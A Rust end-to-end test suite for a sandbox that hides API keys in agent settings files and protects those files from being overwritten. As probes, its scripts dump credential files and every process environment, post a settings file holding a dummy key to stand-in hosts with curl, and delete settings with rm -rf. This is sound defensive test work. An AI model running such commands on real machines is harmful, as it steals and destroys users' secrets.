//! Agents' settings files with keys among the settings: in a sandbox they are without the keys, and
//! a program's changes to them overwrite none.

use std::fs;
use std::os::unix::fs::symlink;
use std::path::PathBuf;

use e2e::holders;
use e2e::internet::{events, is_possible, on_servers, without_namespaces};
use e2e::{Avoidable, Outcome, World, is_root, make_fifo};

const SERVERS: &str = include_str!("credentials/servers.py");
const NAMES: &[&str] = &["example.com", "other.example"];
const CURL: &str = "curl -sS -m 20 --noproxy '*'";
/// The key that the origins demand.
const REAL: &str = "sk-ant-api03-r3alK3yOfTh1sT3stWh1chN0bodyM4yS33in";
/// Another key, for none of the hosts here.
const OTHER: &str = "an0th3rOfTh1sT3stWh1chN0bodyM4yS33in";

/// Copies that no profile names.
const COPIES: [&str; 3] = [
    "settings.json.last-good",
    "settings.json~",
    ".settings.json.swp",
];

const PROFILE: &str = r#"
[network]
allow = ["example.com", "other.example"]
[home]
layer = [".agent", ".agent.json"]
[login.agent]
file = "~/.agent/settings.json"
secrets = ["pin"]
keep = ["env.MODEL"]
optional = true
[login.agent-toml]
file = "~/.agent/config.toml"
secrets = []
optional = true
[login.agent-alone]
file = "~/.agent.json"
secrets = []
optional = true
[login.agent-copy]
file = "~/.agent/settings.json.bak"
hidden = true
[credential.agent]
source = { login = "agent", field = "primaryApiKey" }
to = "example.com"
paths = ["/v1/**"]
place = { header = "authorization", form = "Bearer {}" }
optional = true
"#;

/// The shell command by which a program in the sandbox reads its key.
const FIELD: &str =
    "K=$(sed -n 's/.*\"primaryApiKey\": *\"\\([^\"]*\\)\".*/\\1/p' ~/.agent/settings.json); ";

fn settings() -> String {
    format!(
        "// mine: {OTHER}\n{{\"model\": \"one\", \"primaryApiKey\": \"{REAL}\", \"pin\": 987654,\n\
         \"env\": {{\"MODEL\": \"large\", \"ANY\": \"{OTHER}\"}}, \"args\": [\"--token\", \"{OTHER}\"]}}\n"
    )
}

fn toml() -> String {
    format!("model = \"two\"\n[servers.docs]\nbearer_token = \"{OTHER}\"\n")
}

fn alone() -> String {
    format!("{{\"theme\": \"dark\", \"botToken\": \"{OTHER}\"}}\n")
}

/// Returns all of them, with their texts.
fn files(world: &World) -> [(PathBuf, String); 4] {
    let home = world.home();
    [
        (home.join(".agent/settings.json"), settings()),
        (home.join(".agent/config.toml"), toml()),
        (home.join(".agent.json"), alone()),
        (home.join(".agent/settings.json.bak"), settings()),
    ]
}

/// Returns a world with them, and a profile of this text.
fn world(name: &str, profile: &str) -> World {
    let world = World::new(name);
    world.profile("agent", profile);
    world.write(world.top().join("real"), REAL);
    for one in [REAL, OTHER] {
        let own = [
            "real",
            "sought",
            "home/.agent",
            "home/.agent.json",
            "home/elsewhere",
        ];
        world.canary(one, &own);
    }
    for (file, text) in files(&world) {
        world.write(file, text);
    }
    world.write(world.home().join(".agent/other.json"), "beside it\n");
    for copy in COPIES {
        world.write(world.home().join(".agent").join(copy), settings());
    }
    world
}

fn unharmed(world: &World, outcome: &Outcome) {
    for (file, text) in files(world) {
        assert_eq!(fs::read_to_string(file).unwrap(), text, "{outcome}");
    }
}

/// Runs a script where there are no servers.
fn run(world: &World, script: &str) -> Outcome {
    world
        .run(
            ["--keep", "--profile", "agent"],
            &format!("{FIELD}{script}"),
        )
        .run()
}

/// Checks that none of the keys is in the output.
fn nowhere(said: &Outcome) {
    for secret in [REAL, OTHER, "987654"] {
        let is_said = said.out().contains(secret) || said.err().contains(secret);
        assert!(!is_said, "{secret}: {said}");
    }
}

const SHOW: &str = "cat ~/.agent/* ~/.agent.json; ls -A ~/.agent; \
     find / -xdev \\( -path '*/.agent/*' -o -name .agent.json \\) -exec cat {} + 2>/dev/null; \
     cat /proc/[0-9]*/environ | tr '\\0' '\\n'; ";

#[test]
fn settings_go_in_without_their_secrets_and_a_key_of_them_is_used() {
    let name = "settings_go_in_without_their_secrets_and_a_key_of_them_is_used";
    let world = world(name, PROFILE);
    if !is_possible(&world, &["openssl"]) {
        return;
    }
    let script = format!(
        "{FIELD}echo KEY=$K; {SHOW} \
         {CURL} -H \"Authorization: Bearer $K\" https://example.com/v1/one; \
         {CURL} -H \"Authorization: Bearer $K\" -d @$HOME/.agent/settings.json https://example.com/v1/told; \
         {CURL} -H \"Authorization: Bearer $K\" https://other.example/v1/two; \
         {CURL} -d @$HOME/.agent/settings.json https://other.example/v1/three; true"
    );
    let online = on_servers(&world, SERVERS, NAMES, "\"$ATOLL\" run --keep \"$@\"");
    let outcome = online
        .args(["sh", "--profile", "agent", "--", "sh", "-c", &script])
        .run();
    let requests = fs::read_to_string(world.top().join("internet/requests")).unwrap_or_default();
    let what = format!("{outcome}\n{requests}");
    // Put in where it is for, and nowhere else.
    assert_eq!(outcome.out().matches("welcome").count(), 2, "{what}");
    assert_eq!(requests.lines().count(), 2, "{what}");
    let shown = requests.matches(&format!("Bearer {REAL}")).count();
    assert_eq!(shown, 2, "{what}");
    assert!(!requests.contains(OTHER), "{what}");
    let refused = events(&world, "flow.refused");
    let alerts = refused.iter().filter(|one| one["credential"] == "agent");
    assert_eq!(alerts.count(), 2, "{refused:?}");
    // The rest of them is as it was; the copy is not there.
    for kept in [
        "KEY=sk-ant-api03-",
        "\"model\": \"one\"",
        "\"MODEL\": \"large\"",
        "\"--token\"",
        "model = \"two\"",
        "[servers.docs]",
        "\"theme\": \"dark\"",
        "beside it",
    ] {
        assert!(outcome.out().contains(kept), "{kept}: {what}");
    }
    assert!(!outcome.out().contains("settings.json.bak"), "{what}");
    nowhere(&outcome);
    // They are no changes of the run.
    let diff = world.atoll(["diff", "--stat", "last"]).run();
    for name in ["settings.json", "config.toml", "agent.json"] {
        assert!(!diff.out().contains(name), "{diff}");
    }
    let _ = world.atoll(["apply", "last", "--control"]).run();
    unharmed(&world, &outcome);
    // The control: without the lines of the profile they are inside as they are.
    world.only_control_follows();
    world.profile("agent", "[home]\nlayer = [\".agent\", \".agent.json\"]\n");
    let outcome = world
        .run(["--keep", "--profile", "agent"], SHOW)
        .control()
        .run();
    for one in [REAL, OTHER, "settings.json.bak"] {
        assert!(outcome.out().contains(one), "{one}: {outcome}");
    }
}

#[test]
fn whatever_a_program_does_with_settings_writes_over_none() {
    let world = world(
        "whatever_a_program_does_with_settings_writes_over_none",
        PROFILE,
    );
    for script in [
        "rm ~/.agent/* ~/.agent.json; cat ~/.agent/*",
        "mv ~/.agent/settings.json ~/.agent/moved.json; cat ~/.agent/*",
        "ln ~/.agent/settings.json ~/.agent/linked.json; rm ~/.agent/settings.json; cat ~/.agent/*",
        "rm ~/.agent/settings.json; mkdir ~/.agent/settings.json; ls -R ~/.agent",
        "rm ~/.agent/settings.json; ln -s other.json ~/.agent/settings.json; cat ~/.agent/settings.json",
        "echo '{\"own\": \"text\"}' > ~/.agent/settings.json; echo own >~/.agent/settings.json.bak",
        "rm -rf ~/.agent/* ~/.agent; mv ~/.agent ~/moved; cat ~/moved/*; true",
        "mv ~/.agent/settings.json ~/.agent/config.toml; cp ~/.agent/config.toml ~/.agent/new.json",
    ] {
        let outcome = run(&world, &format!("{script}; true")).success();
        nowhere(&outcome);
        let options = [
            "run",
            "--keep",
            "--resume",
            "last",
            "--profile",
            "agent",
            "--",
        ];
        let again = world
            .atoll(options)
            .args(["sh", "-c", "cat ~/.agent/* ~/.agent.json; true"])
            .run()
            .success();
        nowhere(&again);
        let applied = world.atoll(["apply", "last", "--control"]).run();
        nowhere(&applied);
        unharmed(&world, &applied);
        let _ = world.atoll(["undo", "last"]).run();
        for (file, text) in files(&world) {
            world.write(file, text);
        }
        world.write(world.home().join(".agent/other.json"), "beside it\n");
    }
}

#[test]
fn what_a_program_makes_of_settings_is_taken_over_where_they_have_no_keys() {
    let name = "what_a_program_makes_of_settings_is_taken_over_where_they_have_no_keys";
    let world = world(name, PROFILE);
    let plain = world.home().join(".agent/config.toml");
    let absent = world.home().join(".agent/settings.json");
    world.write(&plain, "mine = 1\nmodel = \"two\"\n");
    let script = "echo 'more = 1' >>~/.agent/config.toml; echo '{}' >~/.agent/settings.json; \
                  cat ~/.agent/config.toml";
    let outcome = run(&world, script).success();
    assert!(outcome.out().contains("mine = 1"), "{outcome}");
    // The one with keys is not, which is said; the other one is, as any control file.
    let diff = world.atoll(["diff", "last"]).run().success();
    assert!(diff.out().contains("+more = 1"), "{diff}");
    let told = format!("{}{}", diff.out(), diff.err());
    assert!(
        told.contains("settings.json: it was changed inside"),
        "{diff}"
    );
    assert!(!told.contains("+{}"), "{diff}");
    nowhere(&diff);
    // Whoever goes on with it has the change still.
    let options = [
        "run",
        "--keep",
        "--resume",
        "last",
        "--profile",
        "agent",
        "--",
    ];
    let again = world
        .atoll(options)
        .args(["sh", "-c", "cat ~/.agent/config.toml"])
        .run();
    assert!(again.out().contains("more = 1"), "{again}");
    let applied = world.atoll(["apply", "last", "--control"]).run().success();
    let now = fs::read_to_string(&plain).unwrap();
    assert_eq!(now, "mine = 1\nmodel = \"two\"\nmore = 1\n", "{applied}");
    assert_eq!(
        fs::read_to_string(&absent).unwrap(),
        settings(),
        "{applied}"
    );
    let _ = world.atoll(["undo", "last"]).run().success();
    let now = fs::read_to_string(&plain).unwrap();
    assert_eq!(now, "mine = 1\nmodel = \"two\"\n");
    // One that a program has made is a change, too.
    fs::remove_file(&absent).unwrap();
    let _ = run(&world, "echo '{\"by\": \"it\"}' >~/.agent/settings.json").success();
    let _ = world.atoll(["apply", "last", "--control"]).run().success();
    assert_eq!(fs::read_to_string(&absent).unwrap(), "{\"by\": \"it\"}\n");
}

#[test]
fn settings_are_never_kept_for_the_next_run() {
    let name = "settings_are_never_kept_for_the_next_run";
    let keep = PROFILE.replace("layer = [\".agent\", ", "keep = [\".agent\"]\nlayer = [");
    let world = world(name, &keep);
    let plain = world.home().join(".agent/config.toml");
    world.write(&plain, "model = \"two\"\n");
    let script =
        "cat ~/.agent/*; echo 'more = 1' >>~/.agent/config.toml; echo '{}' >~/.agent/settings.json";
    let outcome = run(&world, script).success();
    assert!(!outcome.out().contains("more"), "{outcome}");
    let _ = outcome.says([
        "settings.json is not taken over",
        "Held back: config.toml in ~/.agent. Review: ",
    ]);
    nowhere(&outcome);
    // The next one begins with what is outside, without its keys.
    let again = run(&world, "cat ~/.agent/*").success();
    assert!(!again.out().contains("more"), "{again}");
    assert!(again.out().contains("\"model\": \"one\""), "{again}");
    nowhere(&again);
    let diff = world.atoll(["kept", "diff", "agent"]).run().success();
    assert!(diff.out().contains("+more = 1"), "{diff}");
    assert!(!diff.out().contains("settings.json"), "{diff}");
    nowhere(&diff);
    let _ = world
        .atoll(["kept", "apply", "agent", "--control"])
        .run()
        .success();
    assert_eq!(
        fs::read_to_string(&plain).unwrap(),
        "model = \"two\"\nmore = 1\n"
    );
    let text = fs::read_to_string(world.home().join(".agent/settings.json")).unwrap();
    assert_eq!(text, settings());
}

#[test]
fn settings_that_nothing_can_stand_for_are_not_shown_and_it_is_said() {
    let name = "settings_that_nothing_can_stand_for_are_not_shown_and_it_is_said";
    let world = world(name, PROFILE);
    let elsewhere = world.home().join("elsewhere");
    let long = format!(
        "{{\"token\": \"{OTHER}\", \"a\": \"{}\"}}",
        "x".repeat(1 << 20)
    );
    let large = format!(
        "{{\"token\": \"{OTHER}\", \"a\": \"{}\"}}",
        "x".repeat(120 << 10)
    );
    let deep = format!(
        "{{\"token\": \"{OTHER}\", \"a\": {}1{}}}",
        "[".repeat(9_000),
        "]".repeat(9_000)
    );
    let twisted = format!("{{\"token\": \"{OTHER}\", \"{OTHER}\": 1}}");
    for file in [".agent/settings.json", ".agent.json"] {
        let path = world.home().join(file);
        let write = |text: &str| fs::write(&path, text).unwrap();
        let forged: [(&dyn Fn(), &str); 8] = [
            (&|| write(&format!("not JSON: {OTHER}")), "it is no JSON"),
            (&|| write(&long), "longer than 1024 KiB"),
            (&|| write(&deep), "within each other"),
            (&|| write(&twisted), "name of a member"),
            (&|| make_fifo(&path), "no regular file"),
            (&|| symlink("/nowhere", &path).unwrap(), ""),
            (&|| fs::create_dir(&path).unwrap(), ""),
            (
                &|| write(&large),
                if file == ".agent.json" {
                    "is not shown"
                } else {
                    ""
                },
            ),
        ];
        for (forge, said) in forged {
            fs::remove_file(&path).unwrap();
            forge();
            let outcome = run(&world, "echo started; cat ~/.agent/* ~/.agent.json; true");
            assert!(
                outcome.out().contains("started"),
                "{file} {said}: {outcome}"
            );
            let _ = outcome.says([said]);
            nowhere(&outcome);
            if path.is_dir() {
                fs::remove_dir(&path).unwrap();
                write("");
            }
        }
        // A link is followed, as people keep their settings elsewhere.
        fs::remove_file(&path).unwrap();
        world.write(&elsewhere, format!("{{theme: 'linked', token: '{OTHER}'}}"));
        symlink(&elsewhere, &path).unwrap();
        let outcome = run(&world, &format!("cat ~/{file}")).success();
        assert!(outcome.out().contains("\"linked\""), "{outcome}");
        nowhere(&outcome);
        // By another name it would be read all the same.
        fs::remove_file(&path).unwrap();
        fs::hard_link(&elsewhere, &path).unwrap();
        let outcome = run(&world, "echo started");
        assert!(!outcome.out().contains("started"), "{outcome}");
        let _ = outcome.says(["further names"]);
        fs::remove_file(&path).unwrap();
        fs::remove_file(&elsewhere).unwrap();
        world.write(&path, alone());
    }
    // What it leads to is in the same directory: nothing of that is shown.
    let (path, real) = (
        world.home().join(".agent/settings.json"),
        world.home().join(".agent/real"),
    );
    fs::rename(&path, &real).unwrap();
    symlink("real", &path).unwrap();
    let outcome = run(&world, "cat ~/.agent/real ~/.agent/other.json; true");
    nowhere(&outcome);
    assert!(!outcome.out().contains("beside it"), "{outcome}");
    let _ = outcome.says(["is not shown"]);
    fs::rename(&real, &path).unwrap();
    // Nor where nothing can stand in its place at all.
    for options in [
        vec![
            "--ro".to_owned(),
            world.home().join(".agent").display().to_string(),
        ],
        vec![
            "--workspace".to_owned(),
            world.home().join(".agent").display().to_string(),
        ],
    ] {
        let all = [
            vec!["--discard".to_owned(), "--profile".into(), "agent".into()],
            options,
        ]
        .concat();
        let outcome = world.run(all, "echo started").run();
        assert!(!outcome.out().contains("started"), "{outcome}");
        let _ = outcome.says(["can be read inside"]);
    }
}

/// People keep their settings elsewhere and link to them. If a program in a sandbox could choose
/// the link's target, it would have any file read outside, and the rest of that file shown to it.
#[test]
fn a_link_of_settings_is_followed_where_no_program_inside_says_where_it_leads() {
    let name = "a_link_of_settings_is_followed_where_no_program_inside_says_where_it_leads";
    let world = world(name, PROFILE);
    let (home, other) = (world.home(), world.top().join("other"));
    let own = home.join("dotfiles/agent/own");
    world.write(&own, "{theme: 'of its own'}");
    let inside = world.path("own");
    world.write(&inside, "{theme: 'of its own'}");
    world.write(other.join("own"), "{theme: 'of its own'}");
    symlink(&own, world.path("hop")).unwrap();
    let there = world.workspace();
    let there = there.file_name().unwrap().to_str().unwrap();
    let (told, none) = ("is not shown, since it is a link", "");
    let links = [
        (own.display().to_string(), true, none),
        ("../dotfiles/agent/own".to_owned(), true, none),
        (inside.display().to_string(), false, told),
        (world.path("hop").display().to_string(), false, told),
        (
            format!("../../{there}/../home/dotfiles/agent/own"),
            false,
            told,
        ),
        // Until a run works there it is a directory as any other.
        (other.join("own").display().to_string(), true, none),
    ];
    let file = home.join(".agent/settings.json");
    let outcome_of = |to: &str| {
        fs::remove_file(&file).unwrap();
        symlink(to, &file).unwrap();
        run(&world, "echo started; cat ~/.agent/settings.json; true")
    };
    for (to, is_shown, said) in &links {
        let outcome = outcome_of(to).success();
        assert!(outcome.out().starts_with("started"), "{to}: {outcome}");
        let is_seen = outcome.out().contains("of its own");
        assert_eq!(is_seen, *is_shown, "{to}: {outcome}");
        let lines = outcome.err();
        let is_of_it =
            |line: &&str| line.starts_with("warning: ") && line.contains("settings.json");
        let lines = lines.lines().filter(is_of_it);
        assert_eq!(lines.count(), usize::from(!is_shown), "{to}: {outcome}");
        let _ = outcome.says([*said]);
    }
    let _ = world
        .atoll(["run", "--workspace", other.to_str().unwrap(), "--", "true"])
        .run()
        .success();
    let outcome = outcome_of(other.join("own").to_str().unwrap()).success();
    assert!(!outcome.out().contains("of its own"), "{outcome}");
    let _ = outcome.says([told, "that of another run"]);
    // With keys in it, it is read where it lies: nothing starts, as where there is no link.
    world.canary(REAL, &["workspace/own"]);
    world.canary(OTHER, &["workspace/own"]);
    fs::write(&inside, settings()).unwrap();
    let outcome = outcome_of(inside.to_str().unwrap());
    assert!(!outcome.out().contains("started"), "{outcome}");
    let _ = outcome.says(["can be read inside"]);
    nowhere(&outcome);
}

#[test]
fn settings_that_come_or_change_meanwhile_are_not_seen() {
    let name = "settings_that_come_or_change_meanwhile_are_not_seen";
    let without = "[home]\nlayer = [\".agent\", \".agent.json\"]\n";
    for (profile, is_seen) in [(PROFILE, false), (without, true)] {
        let world = world(name, profile);
        for (file, _) in files(&world) {
            fs::remove_file(file).unwrap();
        }
        world.write(
            world.home().join(".agent/config.toml"),
            "model = \"plain\"\n",
        );
        let script =
            "cat ~/.agent/config.toml; echo begun; read line; cat ~/.agent/* ~/.agent.json; true";
        let begun = world.run(["--discard", "--profile", "agent"], script);
        let mut begun = match is_seen {
            true => begun.control().start(),
            false => begun.start(),
        };
        let _ = begun.until_stdout("begun");
        for (file, text) in files(&world) {
            world.write(file, text);
        }
        begun.send("go on\n");
        let outcome = begun.wait().success();
        assert_eq!(outcome.out().contains(REAL), is_seen, "{outcome}");
        assert_eq!(outcome.out().contains(OTHER), is_seen, "{outcome}");
        assert!(outcome.out().contains("beside it"), "{outcome}");
    }
}

#[test]
fn in_a_fence_what_holds_settings_with_keys_is_not_shown() {
    let world = world(
        "in_a_fence_what_holds_settings_with_keys_is_not_shown",
        PROFILE,
    );
    if is_root() {
        return world.skip("root always has namespaces", Avoidable::No);
    }
    let script = format!(
        "cat '{0}/.agent.json' '{0}'/.agent/*; cat '{0}/.agent/other.json'; true",
        world.home().display()
    );
    let fenced = |world: &World| {
        let atoll = without_namespaces(world);
        let options = [
            "run",
            "--keep",
            "--profile",
            "agent",
            "--",
            "sh",
            "-c",
            &script,
        ];
        world.host(atoll).args(options).dir(world.workspace()).run()
    };
    let outcome = fenced(&world);
    let _ = outcome.says(["only fenced in", "is not shown"]);
    assert!(!outcome.out().contains("beside it"), "{outcome}");
    nowhere(&outcome);
    // Where there is nothing in them to hide they are.
    for (file, _) in files(&world) {
        fs::remove_file(file).unwrap();
    }
    for copy in COPIES {
        fs::remove_file(world.home().join(".agent").join(copy)).unwrap();
    }
    world.write(
        world.home().join(".agent/config.toml"),
        "model = \"plain\"\n",
    );
    let outcome = fenced(&world);
    assert!(outcome.out().contains("beside it"), "{outcome}");
    assert!(outcome.out().contains("\"plain\""), "{outcome}");
}

#[test]
fn no_process_but_the_one_that_carries_holds_a_key_of_settings() {
    let name = "no_process_but_the_one_that_carries_holds_a_key_of_settings";
    let world = world(name, PROFILE);
    if !is_possible(&world, &["openssl"]) {
        return;
    }
    let held: [(&str, &[&str]); 2] = [(REAL, &["atoll-egress"]), (OTHER, &[])];
    for (real, holders) in held {
        let _ = fs::remove_file(world.top().join("go"));
        world.write(holders::sought(&world), real);
        let command = holders::searching(&world);
        let run = on_servers(&world, SERVERS, NAMES, &command);
        let script = format!(
            "{FIELD}export K; {CURL} -H \"Authorization: Bearer $K\" https://example.com/v1/one; \
             echo KEY=$K; sh -c 'echo READY; read go'; {CURL} -H \"Authorization: Bearer $K\" https://example.com/v1/one"
        );
        let outcome = holders::without_variable(&world, run)
            .args(["sh", "--profile", "agent", "--", "sh", "-c", &script])
            .run();
        assert_eq!(outcome.out().matches("welcome").count(), 2, "{outcome}");
        holders::expect_held_by(&world, holders, &format!("{real} {outcome}"));
    }
}
